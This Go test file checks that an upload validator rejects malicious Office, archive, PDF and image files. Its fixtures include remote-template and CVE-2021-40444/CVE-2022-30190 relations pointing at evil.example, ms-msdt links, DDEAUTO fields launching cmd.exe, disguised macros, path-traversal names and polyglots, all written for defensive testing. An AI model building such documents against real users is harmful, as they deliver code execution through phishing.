package upload

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"gongkai/fault"
)

const relation = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/`

// links is a part with one relation.
func links(kind, target, mode string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId1" Type="` + kind + `" Target="` + target + `"` + mode + `/></Relationships>`
}

const outside = ` TargetMode="External"`

// inUTF16 writes a part in the other encoding of the packaging rules.
func inUTF16(order binary.AppendByteOrder, mark bool, s string) string {
	units := utf16.Encode([]rune(strings.Replace(s, "UTF-8", "UTF-16", 1)))
	if mark {
		units = append([]uint16{0xfeff}, units...)
	}
	var b []byte
	for _, u := range units {
		b = order.AppendUint16(b, u)
	}
	return string(b)
}

func typesOf(part, kind string) string {
	return `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="` + part + `" ContentType="` + kind + `"/></Types>`
}

const settings = "word/_rels/settings.xml.rels"

// word is a document with a field.
func word(inside string) string {
	return `<w:document xmlns:w="urn:w"><w:body><w:p><w:r>` + inside + `</w:r></w:p></w:body></w:document>`
}

const (
	begin = `<w:fldChar w:fldCharType="begin"/>`
	end   = `<w:fldChar w:fldCharType="end"/>`
)

func TestDocumentsThatReachOut(t *testing.T) {
	tmpl := links(relation+"attachedTemplate", "https://evil.example/t.dotm", outside)
	for _, c := range []struct {
		name  string
		parts []string // of a document besides those it needs
		want  string   // "" where it is taken
	}{
		{"a template", []string{settings, tmpl}, "模板"},
		{"a template in entities", []string{settings, links(relation+"attached&#84;emplate", "https://evil.example/t.dotm", ` TargetMode="Ext&#101;rnal"`)}, "模板"},
		{"a template in UTF-16", []string{settings, inUTF16(binary.LittleEndian, true, tmpl)}, "模板"},
		{"a template in UTF-16, the other order", []string{settings, inUTF16(binary.BigEndian, true, tmpl)}, "模板"},
		{"a template in UTF-16 without a mark", []string{settings, inUTF16(binary.LittleEndian, false, tmpl)}, "模板"},
		{"a template in UTF-7", []string{settings, strings.Replace(tmpl, "UTF-8", "UTF-7", 1)}, "结构"},
		{"UTF-16 that says it is UTF-8", []string{settings, inUTF16(binary.LittleEndian, true, "<?xml version='1.0' encoding='utf-8' ?><!--UTF-8--><a/>")}, "结构"},
		{"UTF-32", []string{settings, "\xff\xfe\x00\x00<\x00\x00\x00"}, "结构"},
		{"half a sign of UTF-16", []string{settings, "\xff\xfe<\x00a"}, "结构"},
		{"a declaration that is none", []string{settings, strings.Replace(tmpl, `version="1.0"`, `version="1.0" a="encoding='utf-8'"`, 1)}, "结构"},
		{"a document type", []string{settings, `<!DOCTYPE a [<!ENTITY m "External">]>` + links(relation+"frame", "https://evil.example/", ` TargetMode="&m;"`)}, "结构"},
		{"an attribute twice", []string{settings, links(relation+"image", "https://evil.example/", ` TargetMode="Internal"`+outside)}, "结构"},
		{"relations in another order of letters", []string{"WORD/_RELS/SETTINGS.XML.RELS", tmpl}, "模板"},
		{"a name written as an address", []string{"word/_rels/settings.xml.r%65ls", tmpl}, "模板"},
		{"relations in pieces", []string{settings + "/[0].last.piece", tmpl}, "路径"},
		{"no XML", []string{settings, "x"}, "结构"},
		{"nothing", []string{settings, ""}, "结构"},

		{"CVE-2021-40444", []string{settings, links(relation+"oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", outside)}, "对象"},
		{"CVE-2022-30190", []string{settings, links(relation+"oleObject", "https://evil.example/x.html!", outside)}, "对象"},
		{"a frame", []string{settings, links(relation+"frame", "https://evil.example/", outside)}, "别处"},
		{"a picture from elsewhere", []string{settings, links(relation+"image", "https://evil.example/a.png", outside)}, "别处"},
		{"a relation nobody knows", []string{settings, links("urn:new", "https://evil.example/", outside)}, "别处"},
		{"a mode nobody knows", []string{settings, links(relation+"image", "media/a.png", ` TargetMode="external "`)}, "别处"},
		{"an address that is said to be inside", []string{settings, links(relation+"image", "https://evil.example/a.png", "")}, "别处"},
		{"a share that is said to be inside", []string{settings, links(relation+"image", `\\evil.example\a`, ` TargetMode="Internal"`)}, "别处"},
		{"another workbook", []string{"xl/_rels/workbook.xml.rels", links(relation+"externalLink", "externalLinks/externalLink1.xml", "")}, "别处"},
		{"data from elsewhere", []string{"xl/_rels/workbook.xml.rels", links(relation+"connections", "connections.xml", "")}, "别处"},
		{"altChunk", []string{settings, links(relation+"aFChunk", "a.html", ""), "word/a.html", "<html/>"}, "对象"},
		{"a program behind a link", []string{settings, links(relation+"hyperlink", "file:///C:/Windows/System32/calc.exe", outside)}, "链接"},
		{"ms-msdt behind a link", []string{settings, links(relation+"hyperlink", "ms-msdt:/id", outside)}, "链接"},
		{"a hyperlink of somebody else", []string{settings, links("urn:x/hyperlink", "https://evil.example/", outside)}, "别处"},

		{"macros under a harmless name", []string{contentTypes, typesOf("/word/harmless.bin", "application/vnd.ms-office.vbaProject")}, "宏"},
		{"macros in entities", []string{contentTypes, typesOf("/word/harmless.bin", "application/vnd.ms-office.vba&#80;roject")}, "宏"},
		{"macros in UTF-16", []string{contentTypes, inUTF16(binary.BigEndian, true, typesOf("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))}, "宏"},
		{"macros by their relation", []string{settings, links("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "harmless.bin", "")}, "宏"},
		{"macros of Excel 4", []string{"xl/_rels/workbook.xml.rels", links("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "a.xml", "")}, "宏"},
		{"ActiveX by its type", []string{contentTypes, typesOf("/word/a.xml", "application/vnd.ms-office.activeX+xml")}, "对象"},
		{"ActiveX by its name", []string{"word/activeX/activeX1.xml", "<a/>"}, "宏"},
		{"OLE by its type", []string{contentTypes, typesOf("/word/a.bin", "application/vnd.openxmlformats-officedocument.oleObject")}, "对象"},
		{"a page by its type", []string{contentTypes, typesOf("/word/a.dat", "text/html")}, "对象"},
		{"an object by its content", []string{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, "对象"},
		{"a program among the objects", []string{"word/embeddings/oleObject1.bin", "MZ\x90\x00"}, "程序"},
		{"a program among the pictures", []string{"word/media/image1.png", "MZ\x90\x00"}, "程序"},
		{"an archive among the pictures", []string{"word/media/image1.png", string(pack(t, "a.txt", "a"))}, "压缩包"},

		{"DDE", []string{"word/document.xml", word(begin + `<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>` + end)}, "域"},
		{"DDE in pieces", []string{"word/header1.xml", word(begin + `<w:instrText> D</w:instrText><w:instrText>DE</w:instrText><w:instrText>AUTO cmd</w:instrText>` + end)}, "域"},
		{"DDE in entities", []string{"word/a.dat", word(`<w:fldSimple w:instr="&#68;DE cmd"/>`)}, "域"},
		{"DDE in numbers", []string{"word/document.xml", word(begin + begin + `<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>` + end + end)}, "域"},

		{"a path upwards", []string{"../../evil", "x"}, "路径"},
		{"a path from the root", []string{"/word/a.xml", "<a/>"}, "路径"},
		{"a path of Windows", []string{`word\a.xml`, "<a/>"}, "路径"},
		{"a drive", []string{"C:/a.xml", "<a/>"}, "路径"},
		{"a path upwards written as an address", []string{"word/%2e%2e/%2e%2e/a.xml", "<a/>"}, "路径"},
		{"a part twice", []string{"Word/Document.xml", "<a/>"}, "同名"},
		{"a part twice, once written as an address", []string{"word/documen%74.xml", "<a/>"}, "同名"},

		{"a page behind a link", []string{settings, links(relation+"hyperlink", "https://www.gov.cn/", outside)}, ""},
		{"a mailbox behind a link", []string{settings, links("http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink", "mailto:a@example.cn", outside)}, ""},
		{"a place in the document", []string{settings, links(relation+"hyperlink", "#_Toc1", outside)}, ""},
		{"a picture of its own", []string{settings, links(relation+"image", "media/image1.png", ""), "word/media/image1.png", string(pictures(t)["png"])}, ""},
		{"relations in UTF-16", []string{settings, inUTF16(binary.LittleEndian, true, links(relation+"image", "media/a.png", ""))}, ""},
		{"ordinary fields", []string{"word/footer1.xml", word(begin + `<w:instrText> PAGE \* MERGEFORMAT </w:instrText>` + end + `<w:t>DDE 是一种协议</w:t>`)}, ""},
		{"a packed drawing", []string{"word/media/image1.emz", "\x1f\x8b\x08\x00"}, ""},
	} {
		_, err := Rules{}.Judge("a.docx", document1(t, c.parts...))
		switch {
		case c.want == "" && err != nil:
			t.Errorf("%s: %v", c.name, err)
		case c.want != "" && (fault.KindOf(err) != fault.Invalid || !strings.Contains(err.Error(), c.want)):
			t.Errorf("%s: %v, want %q", c.name, err, c.want)
		}
	}
}

// document1 is a document of Word in which parts stand for those it needs, or
// besides them.
func document1(t testing.TB, parts ...string) []byte {
	t.Helper()
	var all []string
	for _, need := range []string{contentTypes, "word/document.xml"} {
		if !strings.Contains("\x00"+strings.Join(parts, "\x00")+"\x00", "\x00"+need+"\x00") {
			all = append(all, need, "<a/>")
		}
	}
	return pack(t, append(all, parts...)...)
}

// twice is an archive that holds a name twice.
func twice(t testing.TB) []byte {
	return pack(t, contentTypes, "<a/>", "word/document.xml", "<a/>", "word/document.xml", "<b/>")
}

// comment is an archive with a comment.
func comment(t testing.TB, s string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create("OFD.xml")
	if err == nil {
		_, err = w.Write([]byte("<a/>"))
	}
	if err == nil {
		err = z.SetComment(s)
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// moved is an archive with something between its entries and its directory.
func moved(t testing.TB, between string) []byte {
	b := docx(t)
	at := bytes.Index(b, []byte("PK\x01\x02"))
	all := append(append(bytes.Clone(b[:at]), between...), b[at:]...)
	binary.LittleEndian.PutUint32(all[len(all)-6:], uint32(at+len(between)))
	return all
}

// other is an archive whose entry has another name than its directory says.
func other(t testing.TB) []byte {
	b := docx(t, "word/a.rels", "<a/>")
	i := bytes.Index(b, []byte("word/a.rels"))
	copy(b[i:], "word/a.text")
	return b
}

func TestFilesThatAreTwoThings(t *testing.T) {
	pic, archive := pictures(t), string(pack(t, "a.class", "x"))
	for _, c := range []struct {
		name, file string
		data       []byte
		want       string
	}{
		{"an archive before the document", "a.docx", append([]byte(archive), docx(t)...), "夹有"},
		{"an archive behind the document", "a.docx", append(docx(t), archive...), "夹有"},
		{"a page behind the document", "a.docx", append(docx(t), "<script>alert(1)</script>"...), "夹有"},
		{"a comment", "a.ofd", comment(t, "<script>alert(1)</script>"), "夹有"},
		{"something between", "a.docx", moved(t, "MZ"), "夹有"},
		{"another name in the entry", "a.docx", other(t), "夹有"},
		{"a part twice", "a.docx", twice(t), "同名"},
		{"a folder with something in it", "a.docx", bytes.ReplaceAll(docx(t, "word/a_", "x"), []byte("word/a_"), []byte("word/a/")), "路径"},
		{"an archive behind a PDF", "a.pdf", []byte("%PDF-1.7\n%%EOF\n" + archive), "夹带"},
		{"an archive behind a picture", "a.gif", append(bytes.Clone(pic["gif"]), archive...), "夹带"},
		{"names of a PDF written in numbers", "a.pdf", []byte("%PDF-1.7 << /S /J#61vaScr#69pt >>"), "自动运行"},
		{"nothing before, between or behind", "a.docx", moved(t, ""), ""},
		{"no comment", "a.ofd", comment(t, ""), ""},
	} {
		_, err := Rules{Zip: true}.Judge(c.file, c.data)
		switch {
		case c.want == "" && err != nil:
			t.Errorf("%s: %v", c.name, err)
		case c.want != "" && (fault.KindOf(err) != fault.Invalid || !strings.Contains(err.Error(), c.want)):
			t.Errorf("%s: %v, want %q", c.name, err, c.want)
		}
	}
}

func TestNamesInArchives(t *testing.T) {
	for _, c := range []struct{ name, entry, want string }{
		{"Chinese", "附件/说明.txt", ""},
		{"Chinese in GBK, with a reverse solidus in a sign", string(gbk(t, "附件/俓.txt")), ""},
		{"two full stops", "说明..txt", ""},
		{"upwards", "a/../../b.txt", "路径"},
		{"upwards with a space", "a/.. /b.txt", "路径"},
		{"from the root", "/a.txt", "路径"},
		{"a drive", "c:/a.txt", "路径"},
		{"a stream beside the file", "a.txt:b.txt", "路径"},
		{"a share", `\\evil\a.txt`, "路径"},
		{"a sign that controls", "a\x00.txt", "路径"},
	} {
		_, err := Rules{Zip: true}.Judge("a.zip", pack(t, c.entry, "说明"))
		switch {
		case c.want == "" && err != nil:
			t.Errorf("%s: %v", c.name, err)
		case c.want != "" && (fault.KindOf(err) != fault.Invalid || !strings.Contains(err.Error(), c.want)):
			t.Errorf("%s: %v, want %q", c.name, err, c.want)
		}
	}
}

// A second name that leads elsewhere, or to another kind of file, is not taken.
func TestSecondNames(t *testing.T) {
	for _, c := range []struct {
		name, second string
		ok           bool
	}{
		{"the same in UTF-8", "说明.txt", true},
		{"upwards", "../说明.txt", false},
		{"a program", "说明.exe", false},
	} {
		extra := binary.LittleEndian.AppendUint16(nil, 0x7075)
		extra = append(binary.LittleEndian.AppendUint16(extra, uint16(5+len(c.second))), 1, 0, 0, 0, 0)
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		w, err := z.CreateHeader(&zip.FileHeader{Name: "a.txt", Extra: append(extra, c.second...)})
		if err == nil {
			_, err = w.Write([]byte("说明"))
		}
		if err == nil {
			err = z.Close()
		}
		if err != nil {
			t.Fatal(err)
		}
		if _, err := (Rules{Zip: true}).Judge("a.zip", b.Bytes()); (err == nil) != c.ok {
			t.Errorf("%s: %v", c.name, err)
		}
	}
}

func FuzzRelations(f *testing.F) {
	f.Add([]byte(links(relation+"hyperlink", "https://www.gov.cn/", outside)))
	f.Add([]byte(inUTF16(binary.LittleEndian, true, links(relation+"image", "a.png", ""))))
	f.Add([]byte(typesOf("/a.bin", "application/x")))
	f.Fuzz(func(t *testing.T, part []byte) {
		for _, name := range []string{"a.rels", contentTypes} {
			if err := declared(name, part); err != nil && fault.KindOf(err) != fault.Invalid {
				t.Fatalf("no sentence for people: %v", err)
			}
		}
		text, _, _ := plain(part)
		low := strings.ToLower(text)
		if strings.Contains(low, `targetmode="external"`) && !strings.Contains(low, "hyperlink") && !strings.ContainsAny(low, "&!?") &&
			declared("a.rels", part) == nil && inElement(low) {
			t.Fatalf("it reaches out: %q", part)
		}
	})
}

// inElement reports whether the attribute stands in an element, not in text.
func inElement(low string) bool {
	at := strings.Index(low, `targetmode="external"`)
	return strings.LastIndexByte(low[:at], '<') > strings.LastIndexByte(low[:at], '>') && strings.Count(low[:at], `"`)%2 == 0 && strings.Count(low[:at], `'`) == 0
}

func FuzzFields(f *testing.F) {
	f.Add([]byte(word(begin + "<w:instrText>DDE a</w:instrText>" + end)))
	f.Add([]byte(word(`<w:fldSimple w:instr="PAGE"/>`)))
	f.Fuzz(func(t *testing.T, part []byte) {
		if err := fields(part); err != nil && fault.KindOf(err) != fault.Invalid {
			t.Fatalf("no sentence for people: %v", err)
		}
	})
}

func FuzzLayout(f *testing.F) {
	f.Add(docx(f))
	f.Add(other(f))
	f.Add(moved(f, "x"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if layout(data) && (layout(append([]byte("x"), data...)) || layout(append(bytes.Clone(data), 'x'))) {
			t.Fatal("something before or behind is not seen")
		}
	})
}
